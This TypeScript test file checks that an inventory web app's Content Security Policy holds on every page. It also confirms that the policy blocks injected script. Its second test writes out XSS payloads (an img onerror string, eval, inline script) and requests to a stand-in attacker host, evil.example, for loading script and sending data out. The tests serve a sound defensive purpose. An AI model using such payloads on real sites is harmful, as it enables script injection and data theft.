import { expect, test } from './support/story.ts';

const pages = [
  '/',
  '/produits',
  '/produits/stocks/series',
  '/produits/stocks/etat',
  '/mouvements/entree',
  '/mouvements/fabrication',
  '/emplacements',
  '/importer',
  '/file-d-attente',
  '/anomalies',
  '/entretien',
  '/reglages',
  '/reglages/lecteur',
  '/personnes',
  '/appareils',
  '/plus'
];

test('no page of the app is at odds with its own policy', async ({ world }) => {
  const page = await world.device('Téléphone');
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted/i.test(message.text())) complaints.push(message.text());
  });
  page.on('pageerror', (fault) => complaints.push(String(fault)));
  for (const path of pages) {
    await page.goto(`${world.network.url}${path}`);
    await expect(page.getByRole('heading').first()).toBeVisible();
  }
  expect(complaints).toEqual([]);
});

test('a text that gets into the page is never run', async ({ world }) => {
  const page = await world.device('Téléphone');
  const attempts = await page.evaluate(async () => {
    const outcome = (act: () => unknown): string => {
      try {
        act();
        return 'done';
      } catch (fault) {
        return fault instanceof Error ? fault.name : 'failed';
      }
    };
    const inline = document.createElement('script');
    const foreign = document.createElement('script');
    const image = document.createElement('img');
    return {
      markup: outcome(() => (document.body.innerHTML = '<img src=x onerror="window.hit = 1">')),
      // By a timer of the page: what a debugger runs may evaluate.
      code: await new Promise<string>((resolve) =>
        setTimeout(() => resolve(outcome(() => window.eval('window.hit = 2'))))
      ),
      inline: outcome(() => {
        inline.text = 'window.hit = 3';
        document.head.append(inline);
      }),
      foreign: outcome(() => (foreign.src = 'https://evil.example/x.js')),
      worker: outcome(() => new Worker('data:text/javascript,1')),
      handler: outcome(() => {
        image.setAttribute('onerror', 'window.hit = 4');
        image.src = '/_app/none.png';
        document.body.append(image);
      }),
      sent: await fetch('https://evil.example/', { mode: 'no-cors' }).then(
        () => 'sent',
        (fault: Error) => fault.name
      ),
      hit: (window as { hit?: number }).hit ?? null
    };
  });
  expect(attempts).toMatchObject({
    markup: 'TypeError',
    inline: 'TypeError',
    foreign: 'TypeError',
    worker: 'TypeError',
    sent: 'TypeError',
    hit: null
  });
  expect(attempts.code).toMatch(/EvalError|TypeError/);
});
